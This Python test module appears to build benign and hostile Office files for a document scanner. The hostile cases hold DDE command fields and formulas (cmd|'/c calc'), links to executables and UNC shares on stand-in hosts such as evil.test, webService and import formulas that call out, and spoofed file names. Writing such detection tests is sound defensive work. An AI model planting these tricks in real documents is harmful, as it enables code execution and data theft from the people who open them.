"""Office documents whose fields, formulas, links or parts act, spelled so that it is easy to miss."""

import re
import zipfile
from collections.abc import Callable
from functools import partial
from io import BytesIO

from tests.hostile.archives import zipped
from tests.hostile.case import Case
from tests.hostile.office import (
    excel,
    in_excel,
    in_word,
    instruction,
    pptx,
    related,
    remade,
    word,
)
from tests.hostile.pdfs import script_on_open

_RELATIONS = "word/_rels/document.xml.rels"


def _linked(target: str) -> bytes:
    return related(word(), _RELATIONS, "hyperlink", target)


def _based(base: str) -> bytes:
    properties = f"<Properties><HyperlinkBase>{base}</HyperlinkBase></Properties>".encode()
    return remade(_linked("附件.docx"), add={"docProps/app.xml": properties})


def _field(*pieces: str) -> bytes:
    return in_word(instruction(*pieces))


def _in_sheet(xml: str) -> bytes:
    return remade(
        excel(),
        change={"xl/worksheets/sheet1.xml": (b"</sheetData>", f"</sheetData>{xml}".encode())},
    )


def _named(formula: str) -> bytes:
    name = f'<definedNames><definedName name="a">{formula}</definedName></definedNames>'
    with zipfile.ZipFile(BytesIO(excel())) as archive:
        book = archive.read("xl/workbook.xml")
    bare = re.sub(rb"<definedNames ?/>", b"", book)
    return remade(
        excel(),
        add={"xl/workbook.xml": bare.replace(b"</sheets>", b"</sheets>" + name.encode(), 1)},
    )


def _moved(content: bytes, old: str, new: str, inserted: tuple[bytes, bytes]) -> bytes:
    """A part under another name, declared as before, without its XML declaration."""
    parts = {}
    with zipfile.ZipFile(BytesIO(content)) as archive:
        for each in archive.namelist():
            part = archive.read(each)
            if each == old:
                part = re.sub(rb"^<\?xml.*?\?>\s*", b"", part).replace(*inserted, 1)
            elif each == "[Content_Types].xml" or each.endswith(".rels"):
                last, renamed = old.rpartition("/")[2], new.rpartition("/")[2]
                part = part.replace(last.encode() + b'"', renamed.encode() + b'"')
            parts[new if each == old else each] = part
    return zipped(parts)


def _made_medium(make: Callable[[], bytes], name: str, content: Callable[[], bytes]) -> bytes:
    return remade(make(), add={name: content()})


_FIELDS: tuple[tuple[tuple[str, ...], str], ...] = (
    (("ddeauto c:\\\\cmd.exe",), "dde"),
    (("dDe", "AuTo c:\\\\cmd.exe"), "dde"),
    (("IncludePicture &quot;\\\\\\\\evil\\\\share\\\\a.png&quot;",), "external-reference"),
    (("includetext //evil/share/a.docx",), "external-reference"),
    (("LinK Excel.Sheet.12 &quot;file:///a.xlsx&quot;",), "external-reference"),
    (("import ", "ftp://evil.test/a.png"), "external-reference"),
    (("HYPERLINK calc.exe",), "action"),
    (("hyperlink \\o &quot;https://a.test&quot; &quot;//evil/share/a.exe&quot;",), "action"),
    (("HYPERLINK &quot;\\\\\\\\evil\\\\a.exe&quot;",), "action"),
)
_TARGETS = (
    "//evil/share/a.exe", "calc.exe", "\\\\evil\\share", "../a.exe", "视频/run.exe", "a.exe#x.mp4", "a.exe%00.mp4", "a.exe?.mp4", "/a.mp4", "%2F%2Fevil/a.mp4", "www.a.test\\..\\a.exe", "search-ms:query=a",
    "www.evil.exe", "www.evil.hta", "x.exe%23a.docx", "x.exe;a.docx", "实验.exe:a.docx", "x\u202eexe.docx", "C:\\a.exe", "java&#9;script:alert(1)",
)  # fmt: skip
_FORMULAS = (
    ("1+cmd|&apos;/c calc&apos;!A0", "dde"),
    ("SUM(1,cmd|&apos;/c calc&apos;!A0)", "dde"),
    ("&apos;cmd&apos;|&apos;/c calc&apos;!A0", "dde"),
    ("HYPERLINK(&quot;file://evil/a&quot;)", "action"),
    ("hyperlink(&quot;fi&quot;&amp;&quot;le://evil/a&quot;)", "action"),
    ("_xlfn.image(&quot;http://evil.test/a.png&quot;)", "action"),
    ("1+_xlfn.webService(&quot;http://evil.test&quot;)", "action"),
    ("&apos;\\\\evil\\share\\[b.xlsx]S&apos;!A1", "external-reference"),
    ("[b.xlsx]S!A1", "external-reference"),
    ("&apos;[http://evil.test/x]S&apos;!A1", "external-reference"),
    ("&apos;[\\\\evil\\s\\x]S&apos;!A1", "external-reference"),
    ("_xlfn.IMPORTCSV(&quot;http://evil.test/x.csv&quot;)", "action"),
    ("_xlfn.IMPORTTEXT(&quot;\\\\evil\\x.txt&quot;)", "action"),
    ("HYPERLINK(&quot;a.docx&quot;&amp;&quot;.exe&quot;,&quot;点&quot;)", "action"),
    ("HYPERLINK(&quot;a.docx&quot;&amp;&quot;/../../x.exe&quot;,&quot;点&quot;)", "action"),
)
_MEDIA: tuple[tuple[str, Callable[[], bytes], str, Callable[[], bytes]], ...] = (
    ("a PDF with a script", word, "word/media/a.pdf", script_on_open),
    ("a PDF with a script, as picture,", pptx, "ppt/media/a.png", script_on_open),
    ("a batch script", word, "word/media/a.bat", lambda: b"@echo off\r\n"),
    ("a script", excel, "xl/media/a.js", lambda: b"GIF89a=1;WScript.Quit()"),
    ("a page", word, "word/media/a.htm", lambda: b"<p onclick=alert(1)>x</p>"),
)
_WORDED = (
    "IF(A1=&quot;&quot;,&quot;见图 IMAGE (1)&quot;,&quot;&quot;)", "&quot;call (v.) &quot;&amp;A1",
    "IF(Table1[第1.单元]&gt;90,&quot;真棒!&quot;,&quot;加油&quot;)", "&quot;he said &apos;a: b&apos;!&quot;",
    "HYPERLINK(&quot;https://a.test/?id=&quot;&amp;A1,&quot;页&quot;)", "SUM(&apos;1月:3月&apos;!A1)",
)  # fmt: skip
_DDE_FIELD = instruction("ddeauto cmd").encode()

HONEST = [
    Case("a document with fields", "a.docx", lambda: _field("TOC \\o &quot;1-3&quot; \\h \\z \\u", " PAGE \\* MERGEFORMAT")),
    Case("a document with a link by field", "a.docx", lambda: _field("HYPERLINK &quot;https://a.test/dde/link&quot; \\o &quot;calc.exe&quot; \\t _blank")),
    Case("a document with a link to a place", "a.docx", lambda: _field("HYPERLINK \\l &quot;_Toc1&quot; \\h")),
    Case("a document with a link to a letter", "a.docx", lambda: _linked("mailto:a@school.test")),
    Case("a workbook with links", "a.xlsx", lambda: in_excel("HYPERLINK(&quot;#Sheet2!A1&quot;,&quot;a|b&quot;)&amp;HYPERLINK(&quot;https://a.test&quot;)")),
    *(Case(f"a workbook with {formula!r}", "a.xlsx", partial(in_excel, formula)) for formula in _WORDED),
    Case("a workbook with a bar in a sheet's name", "a.xlsx", lambda: in_excel("SUM(&apos;a|b&apos;!A1:A3)")),
]  # fmt: skip

HOSTILE = [
    *(Case(f"a field {pieces!r}", "a.docx", partial(_field, *pieces), code) for pieces, code in _FIELDS),
    *(Case(f"a link to {target!r}", "a.docx", partial(_linked, target), "action") for target in _TARGETS),
    *(Case(f"a formula {formula!r}", "a.xlsx", partial(in_excel, formula), code) for formula, code in _FORMULAS),
    *(Case(f"a name for {formula!r}", "a.xlsx", partial(_named, formula), code) for formula, code in _FORMULAS),
    *(Case(f"{what} among media", "a." + folder.partition("/")[0].replace("word", "docx").replace("ppt", "pptx").replace("xl", "xlsx"), partial(_made_medium, make, folder, content), "embedded-file") for what, make, folder, content in _MEDIA),
    Case("a validation that runs a program", "a.xlsx", lambda: _in_sheet("<dataValidations><dataValidation><formula1>1+CMD|&apos;/c calc&apos;!A0</formula1></dataValidation></dataValidations>"), "dde"),
    Case("a format that sends data", "a.xlsx", lambda: _in_sheet("<conditionalFormatting><cfRule><formula>webservice(&quot;http://evil.test&quot;)</formula></cfRule></conditionalFormatting>"), "action"),
    Case("a field over two paragraphs", "a.docx", lambda: in_word('<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE</w:instrText></w:r></w:p><w:p><w:r><w:instrText>AUTO cmd</w:instrText></w:r></w:p>'), "dde"),
    *(Case(f"a document whose links lead to {base}", "a.docx", partial(_based, base), "external-reference") for base in ("file://evil.test/share/", "\\\\evil\\share\\", "http://evil.test/")),
    Case("a document whose body is named data", "a.docx", lambda: _moved(word(), "word/document.xml", "word/document.dat", (b"<w:sectPr", _DDE_FIELD + b"<w:sectPr")), "dde"),
    Case("a workbook whose sheet is named data", "a.xlsx", lambda: _moved(excel(), "xl/worksheets/sheet1.xml", "xl/worksheets/sheet1.dat", (b"SUM(B2:B3)", b"cmd|'/c calc'!A0")), "dde"),
]  # fmt: skip
